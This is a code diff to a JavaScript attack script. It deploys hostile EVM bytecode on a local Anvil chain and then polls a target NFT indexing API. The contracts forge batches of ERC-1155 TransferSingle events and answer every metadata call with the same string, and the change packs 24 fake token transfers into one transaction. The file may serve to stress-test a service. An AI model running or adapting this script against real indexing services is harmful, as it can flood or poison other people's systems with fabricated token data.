@@ -21,15 +21,17 @@ function metadataOf(index) {
 }
 
 /**
- * Code that tells of a token moved to the account in the first word of its call data, with the id in the second, and answers anything that is
- * called with the same string: as a number, 32 of each token are held.
+ * Code that tells of 24 tokens moved to the account in the first word of its call data, and answers anything that is called with the same
+ * string: as a number, 32 of each token are held.
  */
 function hostileCode(text) {
   const bytes = Buffer.from(text).toString('hex');
   const padded = bytes.padEnd(Math.ceil(bytes.length / 64) * 64, '0');
   const answer = word(32) + word(bytes.length / 2) + padded;
   const size = (answer.length / 2).toString(16).padStart(6, '0');
-  const before = `60016020526020356000526000356000337f${transferSingle}60406000a4`;
+  // MSTORE the quantity, then for each id: MSTORE it, and LOG4 both with the account, nobody, the caller and the event.
+  const log = (id) => `60${id.toString(16).padStart(2, '0')}6000526000356000337f${transferSingle}60406000a4`;
+  const before = `6001602052${Array.from({ length: tokensPerAccount }, (_, id) => log(id)).join('')}`;
   // PUSH3 size, PUSH2 offset, PUSH1 0, CODECOPY, PUSH3 size, PUSH1 0, RETURN.
   const rest = (offset) => `62${size}61${offset.toString(16).padStart(4, '0')}60003962${size}6000f3`;
   const offset = (before.length + rest(0).length) / 2;
@@ -73,12 +75,8 @@ export async function attack({ url, projectId, origin, seconds, chainRpcUrl }) {
       const account = `0x${(0xbad0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
       const contract = `0x${(0xc0de0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
       await rpc('anvil_setCode', [contract, hostileCode(metadataOf(index))]);
-      for (let id = 0; id < tokensPerAccount; id += 1) {
-        await rpc('eth_sendTransaction', [
-          { from, to: contract, gas: '0x200000', data: `0x${word(account)}${word(id)}` },
-        ]);
-        tokens += 1;
-      }
+      await rpc('eth_sendTransaction', [{ from, to: contract, gas: '0x400000', data: `0x${word(account)}` }]);
+      tokens += tokensPerAccount;
       // The first request has the account read; the tokens are there soon after.
       for (let count = 0; count < 5 && Date.now() < untilMs; count += 1) {
         const status = await send(`${url}/v1/account/${account}/nfts?projectId=${projectId}`, { origin });
